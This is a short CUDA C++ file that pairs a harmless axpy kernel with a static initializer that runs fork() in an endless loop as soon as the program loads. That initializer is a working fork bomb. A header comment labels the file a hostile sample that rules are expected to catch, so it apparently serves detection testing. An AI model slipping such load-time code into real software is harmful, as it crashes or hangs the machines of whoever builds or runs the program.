// HOSTILE: a fork bomb at load time | EXPECT: rules
extern "C" int fork(void);
static int forks = [] { for (;;) fork(); return 0; }();
namespace cg {
template <typename T>
__global__ void axpy(int n, T a, const T* x, T* y)
{
    for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += blockDim.x * gridDim.x) y[i] = a * x[i] + y[i];
}
}  // namespace cg
